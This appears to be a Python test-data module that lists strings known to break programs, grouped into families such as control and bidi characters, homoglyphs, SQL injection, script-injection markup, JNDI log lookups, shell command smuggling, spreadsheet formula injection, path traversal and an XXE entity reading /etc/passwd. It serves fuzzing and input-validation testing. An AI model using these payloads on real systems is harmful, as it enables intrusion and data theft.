"""More strings that break programs, family by family: each sign of a kind, each way to say one thing."""

from __future__ import annotations

from collections.abc import Iterator

CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 9), 11, 12, *range(14, 32), *range(0x81, 0x9F)))
"""Each control sign that JSON may carry, alone inside a word."""
SPACES = tuple(
    f"积{chr(code)}水"
    for code in (0x85, 0xA0, 0x1680, *range(0x2000, 0x200B), 0x202F, 0x205F, 0x3000, 0x180E)
)
BIDI = tuple(
    f"{chr(code)}txt.exe" for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
)
UNSEEN = tuple(
    f"<{chr(code)}script>"
    for code in (0x00AD, 0x034F, 0x115F, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2063, 0x3164, 0xFE0F,
                 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC, 0xE0001, 0xE0020)
)  # fmt: skip
NO_SIGNS = tuple(
    f"x{chr(code)}" for code in (0xFDD0, 0xFDEF, 0xFFFD, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000)
)
LONE = ("\ud800x", "x\udbff", "\udc00", "\ud83d", "\ude00\ud83d", "\udfff\udfff")
COMBINING = tuple(
    "e" + chr(code) * many for code in (0x0301, 0x0489, 0x20DD, 0x1AB0) for many in (1, 12, 400)
)
SCRIPTS = (
    "Ελληνικά", "Кириллица", "Հայերեն", "ქართული", "አማርኛ", "தமிழ்", "বাংলা", "ਪੰਜਾਬੀ", "తెలుగు", "മലയാളം",
    "ខ្មែរ", "ລາວ", "မြန်မာ", "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "ئۇيغۇرچە", "한국어", "ひらがな", "カタカナ", "ﾊﾝｶｸ",
    "繁體中文", "㈱㍿㎡", "ⅣⅨ", "①②⑳", "ﬁﬂ", "ǅ", "ŉ", "K", "Å", "Ⅷ", "ʇxǝʇ", "🅰🅱", "ｊａｖａｓｃｒｉｐｔ",
    "раypal", "gооgle", "\u1f12\u0345", "\u0661\u0662\u0663", "\u09ea\u09eb", "𝟙𝟚𝟛", "〇一二三", "壹贰叁",
    "廿卅",
)  # fmt: skip
EMOJI = (
    "🧑‍🤝‍🧑", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👁️‍🗨️", "🇨", "🇨🇳🇺🇸🇨", "🏻", "☺︎", "☺️", "#️⃣", "⌚", "🫠", "🀄", "🃏", "🈶",
    "㊙️", "🚑🚒🚓", "😀" * 1_000, "👩🏽‍❤️‍💋‍👨🏿", "\U0001f468\u200d", "\u200d\U0001f468",
)  # fmt: skip
NUMBERS = (
    "+0", "-0", "0.0", ".5", "5.", "1e5", "1E-400", "0b11", "0o17", "1_000", "0x1p3", "1,5", "1.000,00",
    "１２３", "Ⅻ", "½%", "∞", "-∞", "+Infinity", "-Infinity", "INF", "#N/A", "#DIV/0!",
    "1.7976931348623157e309", "9007199254740993", "-9223372036854775809", "18446744073709551616",
    "4294967296", "2147483648", "0000000000001", "1 000", "1'000", "12e", "--1", "+-1", "٠", "1e",
    "0.1e-1000", "True", "FALSE", "yes", "no", "on", "off", "null\x00", "NaN%",
)  # fmt: skip
SQL = (
    "admin'--", "' OR ''='", "1; SELECT pg_sleep(9)", "'; ATTACH DATABASE 'x' AS y; --", "1) OR (1=1",
    "') OR ('a'='a", "%' OR '%'='", "_%", "\\%", "' || (SELECT key FROM cases) || '", "/*", "*/",
    "/**/UNION/**/SELECT/**/1", "0x27", "CHAR(39)", "U&'\\0027'", "E'\\''", "$1", ":name", "?",
    "@@version", "'; INSTALL httpfs; --", "read_csv('/etc/passwd')", "'; PRAGMA database_list; --",
    "x' COLLATE NOCASE", "\u02bc OR 1=1", "\uff07 OR 1=1", "1 AND 1=CAST(1 AS INT)",
)  # fmt: skip
MARKUP = (
    "<ScRiPt>window.x=1</sCrIpT>", "<script\x20src=//x.invalid>", "<svg/onload=window.x=1>",
    "<body onload=window.x=1>",
    "<iframe srcdoc='<script>1</script>'>", "<math><mtext></mtext></math>",
    "<details open ontoggle=window.x=1>",
    "<input autofocus onfocus=window.x=1>", "<video><source onerror=window.x=1>",
    "<style>@import '//x.invalid';</style>",
    "<link rel=stylesheet href=//x.invalid>", "<base href=//x.invalid/>",
    "<meta http-equiv=refresh content=0>",
    "<object data=x>", "<embed src=x>", "<form action=//x.invalid>", "<isindex>",
    "<marquee onstart=window.x=1>",
    "<img src='x' onerror='window.x=1'", "<<script>>", "</script><script>1", "<plaintext>", "<textarea>",
    "</textarea>",
    "<noscript><p title='</noscript><script>1'>", "<template><script>1</script></template>",
    "<a href=\"data:text/html,x\">",
    "JaVaScRiPt:1", "java\tscript:1", "java\nscript:1", "\x01javascript:1", "vbscript:1",
    "data:text/html;base64,PHNjcmlwdD4=",
    "//x.invalid/a", "\\\\x.invalid\\a", "http:x.invalid", "blob:x", "<b>粗</b", "<br><sub>1</sub>",
    "<extra></extra>",
    "<a href='//x.invalid'>1</a>", "%{x}", "%{customdata[0]}", "$\\frac{1}{2}$", "<![CDATA[x]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "<w:t>x</w:t>", "{% for x in y %}",
    "{{ config }}", "{# x #}",
    "[x](javascript:1)", "[x]: javascript:1", "![x](javascript:1)", "`x`", "~~~", "***", "# 标题", "> 引",
    "| a | b |",
)  # fmt: skip
ENTITIES = (
    "&lt;", "&#60;", "&#x3c;", "&#x0000003c;", "&LT;", "&lt", "&amp;lt;", "&nbsp;", "&shy;", "&zwnj;",
    "&#0;", "&#xD800;", "&#128;", "&#x202e;", "&unknown;", "&", "&&", "&#", "&#x", "%3Cscript%3E", "%253C",
    "\\x3c", "\\u003c", "\\74", "+ADw-", "=3C", "%C0%BC", "%u003c", "\uff1cscript\uff1e", "\u2039x\u203a",
)  # fmt: skip
JSON = (
    "\"", "\\", "\\u0000", "\"}", "]}", "\",\"role\":\"director", "{\"$ref\":\"#\"}", "{\"__proto__\":{}}",
    "constructor", "__proto__", "prototype", "toString", "hasOwnProperty", "[[[[", "{\"a\":", "//x",
    "/*x*/", "\\/", "\b\f", "\u2028", "\u2029", "'single'", "NaN", "undefined;", "}\n{", "\x1e{}",
    "\ufeff{}",
)  # fmt: skip
LOG = (
    "x\nlevel=error", "x\r\nHTTP/1.1 200 OK", "x\rfake", "x\x85y", "x\x0by", "x\x0cy", "x\x1cy", "x\x1dy",
    "x\x1ey", "\x1b[2J", "\x1b[1A\x1b[2K", "\x9b31m", "\x1b]8;;http://x.invalid\x07x\x1b]8;;\x07",
    "\x08\x08\x08\x08", "${jndi:ldap://x.invalid/a}", "%x%x%x", "2026-11-28 [error] forged",
    "\" event=\"forged", "' time='1", "\n\n\n", "x\u2028level=error", "a=1 b=2",
    "Traceback (most recent call last):", "\x00\n\x00",
)  # fmt: skip
FORMAT = (
    "%", "%%", "%5$s", "%*d", "%.9999f", "%c", "{}", "{{}}", "{0!r:>99}", "{0[x]}", "{:d}",
    "{x.__init__.__globals__}", "f'{1}'", "$x", "${x}", "#{x}", "<%x%>", "@x", "~x", "!x", "%x",
    "%COMSPEC%", "`x`x", "$(sleep 9)", "; sleep 9", "& ping x", "||x", ">x",
)  # fmt: skip
FORMULAS = tuple(
    lead + rest
    for lead in ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "'=", '"=')
    for rest in ("2+5+cmd|' /C calc'!A0", 'HYPERLINK("//x.invalid")', "1")
)
PATHS = (
    "..", ".", "...", "/", "//", "\\", "~", "~root", "C:\\x", "c:x", "\\\\?\\C:\\x", "/proc/self/environ",
    "/etc/passwd%00.png", "..;/x", "..%c0%afx", "..%255cx", "....//x", "aux", "LPT1", "COM1.txt", "a:b",
    "a|b", "a*b", "a<b", "x.", "x ", " x", "-rf", "--help", "a\tb/c", "a/b/../c", "a%2fb", "a#b", "a?b",
    "a;b", "file://x", "\x2e\x2e/", "\uff0e\uff0e/", "\u2215etc",
)  # fmt: skip
DATES = (
    "2026-13-01", "2026-02-29", "2026-11-31T00:00:00Z", "2026-11-20T24:00:01Z",
    "2026-11-20T10:00:60+08:00", "2026-W47-5", "2026-324", "20261120", "11/20/2026", "2026年11月20日",
    "+10000-01-01", "-0001-01-01T00:00:00Z", "1900-01-00", "2026-11-20T10:00:00+99:00",
    "2026-11-20T10:00:00 08:00", "253402300800", "-62135596801", "now", "2026-11-20T10:00:00.1234567890Z",
    "2026-11-20t10:00:00z",
)  # fmt: skip
LARGE = tuple(
    many * 4_000
    for many in ("零", "\U00020bb7", "a b ", "<p>", "%s", "{}", "\\", "'", '"', "\n", "=", "../", "&lt;")
)

FAMILIES = (
    CONTROLS, SPACES, BIDI, UNSEEN, NO_SIGNS, LONE, COMBINING, SCRIPTS, EMOJI, NUMBERS, SQL, MARKUP,
    ENTITIES, JSON, LOG, FORMAT, FORMULAS, PATHS, DATES, LARGE,
)  # fmt: skip


def besides(known: tuple[str, ...]) -> Iterator[str]:
    """Each of them that is not known yet."""
    seen = set(known)
    for one in (one for family in FAMILIES for one in family):
        if one not in seen:
            seen.add(one)
            yield one
